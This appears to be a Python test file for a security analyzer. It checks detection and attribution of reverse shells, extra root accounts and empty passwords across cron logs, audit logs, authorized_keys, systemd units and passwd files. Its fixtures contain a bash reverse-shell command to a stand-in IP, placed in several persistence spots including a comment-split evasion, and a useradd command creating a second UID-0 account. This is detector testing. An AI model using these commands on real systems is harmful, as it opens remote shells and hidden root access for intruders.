#!/usr/bin/env python3
"""Who is named: limits, joins and odd ways of writing never charge somebody else, nor hide anybody.

usage: tests/cli/attribution.py TOCSIN [NAME...]"""

import json
import sys

from person import case, main

SHELL = "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"


def analyze(person, name, content):
    (person.folder / "case").mkdir(exist_ok=True)
    (person.folder / "case" / name).write_text(content)
    assert person.start("analyze", "case", "--format", "json", "--output", "report.json").wait(60) in (0, 1)
    return json.loads((person.folder / "report.json").read_text())


def found(report, rule):
    return [finding for finding in report["findings"] if finding["rule"] == rule]


def names(finding):
    return {(entity["kind"], entity["name"]) for entity in finding["entities"]}


@case
def an_account_beyond_the_limit_is_charged_to_nobody_else(person):
    lines = [f"2026-03-03T02:{i // 60:02}:{i % 60:02}+00:00 h{i:03} CRON[{i}]: (user{i}) CMD (/usr/bin/true {i})"
             for i in range(70)]
    lines += [f"2026-03-03T03:00:0{i}+00:00 h09{i} CRON[9{i}]: (eve9{i}) CMD ({SHELL})" for i in range(3)]
    report = analyze(person, "syslog", "\n".join(lines) + "\n")
    shells = found(report, "capability/reverse-shell")
    assert shells, [finding["rule"] for finding in report["findings"]]
    for finding in shells:
        assert not any(name.startswith("user") or name in {f"h{i:03}" for i in range(70)}
                       for _, name in names(finding)), finding["entities"]


@case
def numbers_of_accounts_are_a_machines_own(person):
    def login(node, name, serial):
        return (f"node={node} type=USER_LOGIN msg=audit(1772503200.000:{serial}): pid=9 uid=0 auid=1000 ses=3 "
                f"msg='op=login acct=\"{name}\" exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.7 terminal=ssh res=success'\n")

    def command(node, serial):
        head = f"node={node} type={{}} msg=audit(1772503300.000:{serial}): "
        return (head.format("SYSCALL") + "arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=10 auid=1000 uid=0 gid=0 "
                "euid=0 tty=pts0 ses=3 comm=\"useradd\" exe=\"/usr/sbin/useradd\" key=(null)\n" +
                head.format("EXECVE") + "argc=5 a0=\"useradd\" a1=\"-o\" a2=\"-u\" a3=\"0\" a4=\"toor\"\n")

    log = login("web1", "anna", 1) + login("web2", "mallory", 2) + command("web2", 3)
    report = analyze(person, "audit.log", log)
    assert report["findings"], report["evidence"]
    for finding in report["findings"]:
        assert ("account", "anna") not in names(finding), finding


@case
def options_of_keys_are_read_in_any_case(person):
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJhc2U2NGJhc2U2NGJhc2U2NGJhc2U2NGJhc2U2NGJh a@b"
    for option in (f'command="{SHELL}"', f'COMMAND="{SHELL}"', f'no-pty,Command="{SHELL}"'):
        report = analyze(person, "authorized_keys", f"{option} {key}\n")
        assert found(report, "capability/reverse-shell"), option
    report = analyze(person, "authorized_keys", f'environment="X=command=\\"{SHELL}\\"" {key}\n')
    assert not found(report, "capability/reverse-shell")


@case
def a_comment_within_a_line_that_goes_on_hides_nothing(person):
    unit = ("[Service]\nExecStart=/bin/bash -c \"bash -i \\\n# a comment \\\n"
            " >& /dev/tcp/198.51.100.9/4444 0>&1\"\n[Install]\nWantedBy=multi-user.target\n")
    assert found(analyze(person, "x.service", unit), "capability/reverse-shell")


@case
def account_files_are_judged(person):
    report = analyze(person, "passwd", "root:x:0:0:root:/root:/bin/bash\nsupport:x:0:0::/tmp:/bin/bash\n"
                     "alice:x:1000:1000::/home/alice:/bin/bash\nguest::1001:1001::/home/guest:/bin/bash\n"
                     "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n")
    (second,) = found(report, "behaviour/second-root-account")
    assert ("account", "support") in names(second) and second["severity"] == "high", second
    (empty,) = found(report, "behaviour/empty-password")
    assert ("account", "guest") in names(empty) and empty["severity"] == "medium", empty
    assert len(report["findings"]) == 2, report["findings"]


if __name__ == "__main__":
    sys.exit(main(sys.argv[2:]))
